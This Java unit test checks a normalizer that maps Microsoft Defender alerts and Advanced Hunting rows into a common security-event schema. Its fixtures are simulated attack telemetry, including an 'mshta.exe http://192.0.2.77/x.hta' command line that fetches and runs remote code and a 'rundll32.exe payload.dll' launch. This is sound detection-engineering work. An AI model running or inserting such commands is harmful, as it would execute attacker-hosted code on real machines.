package dev.watchfloor.ingest.normalize.vendor.endpoint;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.node.ObjectNode;

import dev.watchfloor.ingest.normalize.NormalizedRecord;

class DefenderMapperTest {

    @Test
    void readsAGraphAlertV2WithEvidence() {
        String json = """
                {"@odata.type": "#microsoft.graph.security.alert", "id": "da6381e4-0000-4000-8000-00000000a1b2",
                 "title": "Suspicious process injection observed", "severity": "high", "status": "inProgress",
                 "category": "DefenseEvasion", "detectionSource": "microsoftDefenderForEndpoint",
                 "serviceSource": "microsoftDefenderForEndpoint", "productName": "Microsoft Defender for Endpoint",
                 "mitreTechniques": ["T1055", "T1055.012"], "createdDateTime": "2024-05-02T05:06:07.89Z",
                 "evidence": [
                   {"@odata.type": "#microsoft.graph.security.deviceEvidence", "deviceDnsName": "ops-srv-2.corp.example.org", "mdeDeviceId": "dev01"},
                   {"@odata.type": "#microsoft.graph.security.userEvidence", "userAccount": {"accountName": "kcho", "domainName": "CORP", "userSid": "S-1-5-21-5-5-5-2001"}},
                   {"@odata.type": "#microsoft.graph.security.processEvidence", "processId": 6612, "processCommandLine": "rundll32.exe payload.dll,Start",
                    "imageFile": {"fileName": "rundll32.exe", "filePath": "C:\\\\Windows\\\\System32", "sha256": "9999999999999999999999999999999999999999999999999999999999999999"}},
                   {"@odata.type": "#microsoft.graph.security.ipEvidence", "ipAddress": "192.0.2.200"}]}
                """;
        NormalizedRecord r = Normalize.one(json);
        ObjectNode e = r.body();
        assertThat(r.source()).isEqualTo("defender");
        assertThat(e.path("class_uid").asInt()).isEqualTo(2004);
        assertThat(e.path("severity_id").asInt()).isEqualTo(4);
        assertThat(e.at("/finding_info/attacks/1/technique/uid").asText()).isEqualTo("T1055.012");
        assertThat(e.at("/device/hostname").asText()).isEqualTo("ops-srv-2.corp.example.org");
        assertThat(e.at("/actor/user/name").asText()).isEqualTo("kcho");
        assertThat(e.at("/process/file/path").asText()).isEqualTo("C:\\Windows\\System32\\rundll32.exe");
        assertThat(e.at("/process/pid").asInt()).isEqualTo(6612);
        assertThat(e.at("/src_endpoint/ip").asText()).isEqualTo("192.0.2.200");
        assertThat(r.title()).isEqualTo("Suspicious process injection observed");
    }

    @Test
    void readsALegacyMdeAlert() {
        String json = """
                {"id": "da637000000000000000_-1000000000", "title": "Ransomware behavior detected", "severity": "Medium",
                 "status": "Resolved", "category": "Ransomware", "detectionSource": "WindowsDefenderAtp",
                 "alertCreationTime": "2024-05-01T23:59:58.1Z", "machineId": "1e2d3c4b5a", "computerDnsName": "acct-pc-12",
                 "relatedUser": {"userName": "rsingh", "domainName": "CORP"}, "mitreTechniques": ["T1486"],
                 "evidence": [{"entityType": "File", "sha256": "abababababababababababababababababababababababababababababababab", "fileName": "lock.exe", "filePath": "C:\\\\ProgramData"}]}
                """;
        ObjectNode e = Normalize.one(json).body();
        assertThat(e.path("class_uid").asInt()).isEqualTo(2004);
        assertThat(e.path("activity_id").asInt()).isEqualTo(3);
        assertThat(e.path("severity_id").asInt()).isEqualTo(3);
        assertThat(e.at("/device/hostname").asText()).isEqualTo("acct-pc-12");
        assertThat(e.at("/actor/user/name").asText()).isEqualTo("rsingh");
        assertThat(e.at("/file/path").asText()).isEqualTo("C:\\ProgramData\\lock.exe");
        assertThat(e.at("/finding_info/attacks/0/technique/uid").asText()).isEqualTo("T1486");
    }

    @Test
    void readsAdvancedHuntingRowsRawAndStreamed() {
        String body = """
                {"Timestamp":"2024-05-02T04:05:06.123Z","DeviceId":"d1","DeviceName":"eng-ws-9.corp.example.org","ActionType":"ProcessCreated","FileName":"mshta.exe","FolderPath":"C:\\\\Windows\\\\System32\\\\mshta.exe","ProcessId":5120,"ProcessCommandLine":"mshta.exe http://192.0.2.77/x.hta","SHA256":"1212121212121212121212121212121212121212121212121212121212121212","AccountName":"vlopez","AccountDomain":"corp","InitiatingProcessFileName":"outlook.exe","InitiatingProcessFolderPath":"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\outlook.exe","InitiatingProcessId":2100,"InitiatingProcessAccountName":"vlopez","ReportId":77}
                {"time":"2024-05-02T04:05:09Z","category":"AdvancedHunting-DeviceNetworkEvents","operationName":"Publish","properties":{"Timestamp":"2024-05-02T04:05:08Z","DeviceId":"d1","DeviceName":"eng-ws-9.corp.example.org","ActionType":"ConnectionSuccess","RemoteIP":"192.0.2.77","RemotePort":80,"LocalIP":"10.7.7.7","LocalPort":50999,"Protocol":"Tcp","RemoteUrl":"http://192.0.2.77/x.hta","InitiatingProcessFileName":"mshta.exe","InitiatingProcessId":5120}}
                {"Timestamp":"2024-05-02T04:06:00Z","DeviceId":"d1","DeviceName":"eng-ws-9.corp.example.org","ActionType":"LogonFailed","AccountName":"admin","AccountDomain":"corp","LogonType":"Network","RemoteIP":"198.51.100.4","FailureReason":"InvalidUserNameOrPassword","ReportId":80}
                """;
        List<NormalizedRecord> records = Normalize.all(body);
        assertThat(records).hasSize(3).allMatch(r -> r.source().equals("defender"));
        ObjectNode process = records.get(0).body();
        assertThat(process.path("class_uid").asInt()).isEqualTo(1007);
        assertThat(process.at("/process/name").asText()).isEqualTo("mshta.exe");
        assertThat(process.at("/actor/process/name").asText()).isEqualTo("outlook.exe");
        assertThat(process.at("/device/hostname").asText()).isEqualTo("eng-ws-9.corp.example.org");
        ObjectNode network = records.get(1).body();
        assertThat(network.path("class_uid").asInt()).isEqualTo(4001);
        assertThat(network.at("/dst_endpoint/ip").asText()).isEqualTo("192.0.2.77");
        assertThat(network.at("/src_endpoint/port").asInt()).isEqualTo(50999);
        assertThat(network.path("time").asLong()).isEqualTo(1714622708000L);
        ObjectNode logon = records.get(2).body();
        assertThat(logon.path("class_uid").asInt()).isEqualTo(3002);
        assertThat(logon.path("status_id").asInt()).isEqualTo(2);
        assertThat(logon.at("/user/name").asText()).isEqualTo("admin");
    }
}
